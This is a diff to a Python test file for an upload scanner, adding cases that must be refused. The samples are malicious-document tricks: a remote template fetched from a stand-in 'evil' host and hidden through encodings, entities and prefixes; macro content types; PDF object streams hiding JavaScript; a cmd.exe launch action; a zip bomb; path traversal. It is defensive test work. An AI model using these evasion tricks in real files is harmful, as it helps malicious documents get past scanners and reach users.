@@ -21,6 +21,8 @@ from tests.calls import Answer, Caller
 from tests.conftest import World
 
 PLACE = "40.7128 North"
+MACRO = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+TEMPLATE = b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
 
 
 def picture(kind: str, **more: Any) -> bytes:
@@ -52,6 +54,16 @@ def word(more: dict[str, bytes] | None = None, *, kinds: bytes = b"<Types/>") ->
         }.items():
             packed.writestr(name, content)
     return made.getvalue()
+
+
+def packed_pdf(head: bytes, content: bytes, start: bytes = b"stream\n") -> bytes:
+    """A PDF with an object stream."""
+    return pdf().replace(b"%%EOF", b"2 0 obj<<" + head + b">>" + start + content + b"endstream\n%%EOF")
+
+
+def related(text: bytes, name: str = "word/_rels/settings.xml.rels") -> bytes:
+    """A document whose parts are related so."""
+    return word({name: text})
 
 
 def heic() -> bytes:
@@ -115,6 +127,8 @@ class TestTaken:
             ("IMG_0001.HEIC", heic(), "heic"),
             ("notes.txt", "Über Äpfel\r\nline two".encode(), "txt"),
             ("notes.txt", "Über Äpfel".encode("utf-16"), "txt"),
+            ("packed.pdf", packed_pdf(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"1 0 <</A 1>>")), "pdf"),
+            ("plan.docx", related(TEMPLATE.replace(b"attachedTemplate", b"hyperlink")), "docx"),
             ("plan.docx", word({"word/media/image1.png": picture("PNG")}), "docx"),
             ("photo.jpg", pdf(), "pdf"),  # the bytes decide, not the name
             ("../../etc/passwd\u202efdp.exe", pdf(), "pdf"),
@@ -174,8 +188,8 @@ class TestTaken:
 # ---- what is refused ----
 
 BOMB = word({"word/big.xml": b"\0" * (60 * 1024 * 1024)})
-TEMPLATE = b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
 PACKED = zlib.compress(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")
+
 REFUSED = {
     "eicar": (scanner.EICAR, "infected"),
     "eicar in a document": (word({"word/media/x.txt": scanner.EICAR}), "infected"),
@@ -198,14 +212,56 @@ REFUSED = {
         pdf().replace(b"%%EOF", b"2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + PACKED + b"endstream\n%%EOF"),
         "active_content",
     ),
+    "a packed program behind a long head": (
+        packed_pdf(b"/Type/ObjStm/X(" + b"x" * 500 + b")/Filter/FlateDecode", PACKED),
+        "active_content",
+    ),
+    "a packed program with a hidden type": (packed_pdf(b"/Type/Obj#53tm/Filter/FlateDecode", PACKED), "active_content"),
+    "a packed program behind a bare return": (
+        packed_pdf(b"/Type/ObjStm/Filter/FlateDecode", PACKED, b"stream\r"),
+        "active_content",
+    ),
+    "a program that is packed twice": (
+        packed_pdf(b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]", zlib.compress(PACKED)),
+        "damaged",
+    ),
+    "a program that is spelled in hexadecimal": (
+        packed_pdf(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", PACKED.hex().encode() + b">"),
+        "damaged",
+    ),
+    "a packed program beside the word": (
+        packed_pdf(b"/X(stream)/Type/ObjStm/Filter/FlateDecode", PACKED),
+        "active_content",
+    ),
     "a launching pdf": (pdf(b"/A<</S/Launch/F(cmd.exe)>>"), "active_content"),
     "a file in a pdf": (pdf(b"/Names<</EmbeddedFiles<<>>>>"), "active_content"),
     "a locked pdf": (pdf(b"/Encrypt 5 0 R"), "encrypted"),
     "a cut pdf": (pdf()[:20] + bytes(3000), "damaged"),
     "a macro": (word({"word/vbaProject.bin": b"x"}), "active_content"),
-    "a macro by type": (word(kinds=b"application/vnd.ms-word.document.macroEnabled.main+xml"), "active_content"),
+    "a macro by type": (word(kinds=MACRO.encode()), "active_content"),
     "an object": (word({"word/embeddings/oleObject1.bin": b"x"}), "active_content"),
     "a template from elsewhere": (word({"word/_rels/settings.xml.rels": TEMPLATE}), "active_content"),
+    "a template in other quotes": (related(TEMPLATE.replace(b'"', b"'")), "active_content"),
+    "a template in another encoding": (related(TEMPLATE.decode().encode("utf-16")), "active_content"),
+    "a template with a prefix": (
+        related(TEMPLATE.replace(b"<Rel", b'<r:Rel').replace(b" Id", b' xmlns:r="http://x" Id')),
+        "active_content",
+    ),
+    "a template with spelled letters": (related(TEMPLATE.replace(b"External", b"&#69;xternal")), "active_content"),
+    "a template in capitals": (related(TEMPLATE, "word/_rels/SETTINGS.XML.RELS"), "active_content"),
+    "a template by an entity": (
+        related(b'<!DOCTYPE x [<!ENTITY e "External">]>' + TEMPLATE.replace(b"External", b"&e;")),
+        "active_content",
+    ),
+    "a page within": (
+        related(b'<Relationship Id="r" Type="http://x/aFChunk" Target="page.mht"/>', "word/_rels/document.xml.rels"),
+        "active_content",
+    ),
+    "an object by another name": (
+        related(b'<Relationship Id="r" Type="http://x/oleObject" Target="a.dat"/>', "word/_rels/document.xml.rels"),
+        "active_content",
+    ),
+    "a macro by type in another encoding": (word(kinds=MACRO.encode("utf-16")), "active_content"),
     "a bomb": (BOMB, "damaged"),
     "a path": (word({"../../evil.xml": b"x"}), "damaged"),
 }  # fmt: skip
